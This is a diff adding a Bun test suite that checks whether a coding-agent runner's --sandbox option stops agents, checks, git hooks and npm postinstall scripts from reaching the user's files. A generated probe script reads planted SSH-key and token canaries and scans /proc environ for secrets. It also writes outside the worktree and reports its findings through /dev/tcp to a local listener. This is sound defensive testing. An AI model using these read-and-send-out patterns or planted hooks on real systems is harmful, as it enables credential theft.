@@ -1,0 +1,194 @@
+import { expect, test } from "bun:test";
+import { spawn } from "node:child_process";
+import { chmodSync, existsSync, mkdirSync, readdirSync, writeFileSync } from "node:fs";
+import { createServer as createTcpServer } from "node:net";
+import { join } from "node:path";
+import { bubblewrap } from "../support/sandbox.ts";
+import { scratchRepository, writeFiles } from "../support/scratch.ts";
+import { eventsOf, privateState, runArtifact } from "./artifact.ts";
+
+const why = bubblewrap === null ? " (skipped: bubblewrap is not installed here)" : "";
+
+/** What a hostile program looks for. Each line says whether it was had; a line that every starter says is no canary. */
+const probe = (at: { canaries: Record<string, string>; writes: readonly string[]; port: number }) => `
+said="$1"
+had() { said="$said $1"; }
+${Object.entries(at.canaries)
+  .map(([name, path]) => `cat ${path} >/dev/null 2>&1 && had ${name}`)
+  .join("\n")}
+${at.writes.map((path) => `echo "$1" > "${path}.$1" 2>/dev/null`).join("\n")}
+for one in /proc/[0-9]*/environ; do grep -qa CANARY_IN_ENVIRONMENT "$one" 2>/dev/null && { had process; break; }; done
+env | grep -q CANARY_OF_BARO && had variable
+echo own > "own.$1" && cat "own.$1" >/dev/null && rm "own.$1" && had own-worktree
+git log -1 --format=%H >/dev/null 2>&1 && had own-history
+echo temp > "/tmp/temp.$1" && had temp
+exec 3<>/dev/tcp/127.0.0.1/${at.port} && echo "$said" >&3
+true
+`;
+
+/** Plans, writes what a check refuses, and mends it when it is told. */
+const agent = (canary: string) => `
+const { execFileSync } = require("node:child_process");
+const { readFileSync, writeFileSync } = require("node:fs");
+const { createInterface } = require("node:readline");
+let cwd = ".";
+const send = (message) => process.stdout.write(JSON.stringify({ jsonrpc: "2.0", ...message }) + "\\n");
+const probe = (name) => execFileSync("bash", ["probe.sh", name], { cwd, stdio: "ignore" });
+createInterface({ input: process.stdin }).on("line", (line) => {
+  const { id, method, params } = JSON.parse(line);
+  if (method === "initialize") return send({ id, result: { protocolVersion: 1, agentCapabilities: { loadSession: true } } });
+  if (method === "session/new" || method === "session/load") {
+    cwd = params.cwd;
+    return send({ id, result: { sessionId: "s" } });
+  }
+  if (method !== "session/prompt") return id === undefined ? undefined : send({ id, result: {} });
+  let text = "Done.";
+  if (cwd.includes("look-")) {
+    probe("asker");
+    const story = { id: "S1", title: "Say more", brief: "Say more in a.txt", writes: ["a.txt"], reads: [], dependsOn: [], acceptance: ["more"], verify: ["bash probe.sh verify"], weight: "light" };
+    text = JSON.stringify({ stories: [story] });
+  } else if (readFileSync(cwd + "/a.txt", "utf8") === "bad\\n") {
+    probe("repair");
+    writeFileSync(cwd + "/a.txt", "good and more\\n");
+  } else {
+    probe("agent");
+    writeFileSync(cwd + "/a.txt", "bad\\n");
+  }
+  send({ method: "session/update", params: { sessionId: "s", update: { sessionUpdate: "agent_message_chunk", content: { type: "text", text } } } });
+  send({ id, result: { stopReason: "end_turn" } });
+});
+// ${canary}
+`;
+
+/** Listens for what probes say: their names and what they had. */
+async function listener() {
+  const said = new Map<string, string[]>();
+  const server = createTcpServer((socket) => {
+    let text = "";
+    socket.on("data", (chunk) => {
+      text += chunk;
+    });
+    socket.on("error", () => {});
+    socket.on("close", () => {
+      const [name = "", ...had] = text.trim().split(" ");
+      said.set(name, had);
+    });
+  });
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  const address = server.address();
+  if (address === null || typeof address === "string") throw new Error("No port");
+  return { said, port: address.port, [Symbol.asyncDispose]: async () => void server.close() };
+}
+
+/** A run in which every kind of starter looks for canaries. */
+async function runWith(...flags: string[]) {
+  await using heard = await listener();
+  using state = privateState();
+  using repo = scratchRepository({ "a.txt": "good\n" });
+  const { HOME: home = "", BARO_HOME: ours = "", XDG_CACHE_HOME: cache = "" } = state.env;
+  writeFiles(home, { ".ssh/id_canary": "key\n", "notes.txt": "mine\n", ".config/tool/token": "token\n" });
+  writeFiles(ours, { "runs/canary": "ours\n" });
+  writeFiles(cache, { "baro/worktrees/other/w1/canary": "another's\n" });
+  const temp = join(state.path, "agent.sock.txt");
+  writeFileSync(temp, "a socket's folder\n");
+  const secret = spawn("sleep", ["600"], { env: { CANARY_IN_ENVIRONMENT: "x" }, stdio: "ignore" });
+  const program = join(state.path, "agent.cjs");
+  writeFileSync(program, agent("its own file is all that it needs"));
+  const canaries = {
+    key: join(home, ".ssh/id_canary"),
+    home: join(home, "notes.txt"),
+    token: join(home, ".config/tool/token"),
+    state: join(ours, "runs/canary"),
+    "other-worktree": join(cache, "baro/worktrees/other/w1/canary"),
+    "git-settings": join(repo.path, ".git/config"),
+    checkout: join(repo.path, "only-here.txt"),
+    "socket-folder": temp,
+  };
+  const writes = [join(home, "w"), join(ours, "w"), join(repo.path, ".git", "w"), join(repo.path, "w"), temp];
+  const manifest = { name: "x", version: "1.0.0", dependencies: { dep: "file:dep" } };
+  repo.commit("Probe", {
+    "probe.sh": probe({ canaries, writes, port: heard.port }),
+    "package.json": JSON.stringify({ ...manifest, scripts: { postinstall: "bash probe.sh install" } }),
+    "package-lock.json": JSON.stringify({
+      ...{ ...manifest, lockfileVersion: 3, requires: true },
+      packages: {
+        "": { ...manifest, hasInstallScript: true },
+        dep: { version: "1.0.0" },
+        "node_modules/dep": { resolved: "dep", link: true },
+      },
+    }),
+    "dep/package.json": '{ "name": "dep", "version": "1.0.0" }\n',
+  });
+  writeFiles(repo.path, {
+    "only-here.txt": "not committed\n",
+    ".git/hooks/pre-commit": "#!/bin/sh\nbash probe.sh hook\n",
+  });
+  writeFiles(repo.path, { ".git/hooks/commit-msg": "#!/bin/sh\nbash probe.sh message-hook\n" });
+  for (const hook of ["pre-commit", "commit-msg"]) chmodSync(join(repo.path, ".git/hooks", hook), 0o755);
+  const commands = ["--verify", "bash probe.sh check; grep -q good a.txt"];
+  const ended = await runArtifact({
+    cwd: repo.path,
+    env: { ...state.env, CANARY_OF_BARO: "x" },
+    args: [
+      ...["Say more in a.txt", "--mode", "sequential", "--agent", `acp:node "${program}"`, "--json"],
+      ...["--deliver", "branch", "--setup", "bash probe.sh set-up", ...commands, ...flags],
+    ],
+  });
+  secret.kill();
+  const written = [home, ours, join(repo.path, ".git"), repo.path, state.path].flatMap((folder) =>
+    existsSync(folder) ? readdirSync(folder).filter((name) => /^(w|agent\.sock\.txt)\../.test(name)) : [],
+  );
+  return { ended, said: heard.said, written };
+}
+
+const starters = ["agent", "asker", "check", "hook", "install", "message-hook", "repair", "set-up", "verify"];
+const everything = [
+  ...["key", "home", "token", "state", "other-worktree", "git-settings", "checkout", "socket-folder", "process"],
+  ...["own-worktree", "own-history", "temp"],
+];
+
+test("without a sandbox everything that a run starts can see what is the person's", async () => {
+  const { ended, said, written } = await runWith();
+  expect([ended.exitCode, ended.stderr]).toEqual([0, expect.any(String)]);
+  expect([...said.keys()].toSorted()).toEqual(starters);
+  for (const starter of starters) expect([starter, said.get(starter)]).toEqual([starter, everything]);
+  expect(written.length).toBe(5 * starters.length);
+});
+
+test.skipIf(bubblewrap === null)(
+  `--sandbox holds for agents, askers, checks, the planner's checks, set-up, hooks and repairs${why}`,
+  async () => {
+    const { ended, said, written } = await runWith("--sandbox");
+    expect([ended.exitCode, ended.stderr]).toEqual([0, expect.any(String)]);
+    expect([...said.keys()].toSorted()).toEqual(starters);
+    const own = ["own-worktree", "own-history", "temp"];
+    // What sets a worktree up was trusted by the person, and may copy from their checkout.
+    for (const starter of starters) {
+      expect([starter, said.get(starter)]).toEqual([starter, starter === "set-up" ? ["checkout", ...own] : own]);
+    }
+    expect(written).toEqual([]);
+    expect(eventsOf(ended.events, "run.finished")[0]).toMatchObject({ outcome: "delivered" });
+  },
+);
+
+test("a sandbox that can't be had stops the run before anything is spent, with what to do", async () => {
+  using state = privateState();
+  using repo = scratchRepository();
+  const bin = join(state.path, "bin");
+  mkdirSync(bin);
+  for (const name of ["git", "sh"]) {
+    writeFileSync(join(bin, name), `#!/bin/sh\nexec /usr/bin/${name} "$@"\n`);
+    chmodSync(join(bin, name), 0o755);
+  }
+  const args = ["Fix the typo in README.md", "--sandbox", "--agent", "acp:sh", "--json"];
+  const missing = await runArtifact({ cwd: repo.path, env: { ...state.env, PATH: bin }, args });
+  expect(missing.exitCode).toBe(5);
+  expect(missing.stderr).toContain("error: Cannot run in a sandbox: bubblewrap (bwrap) is not on the PATH");
+  writeFileSync(join(bin, "bwrap"), "#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n");
+  chmodSync(join(bin, "bwrap"), 0o755);
+  const refused = await runArtifact({ cwd: repo.path, env: { ...state.env, PATH: bin }, args });
+  expect(refused.exitCode).toBe(5);
+  expect(refused.stderr).toContain("Cannot run in a sandbox: bwrap: No permissions to create new namespace");
+  expect(refused.stderr).toContain("hint: Let bubblewrap make user namespaces");
+  expect(eventsOf(refused.events, "run.started")).toEqual([]);
+});
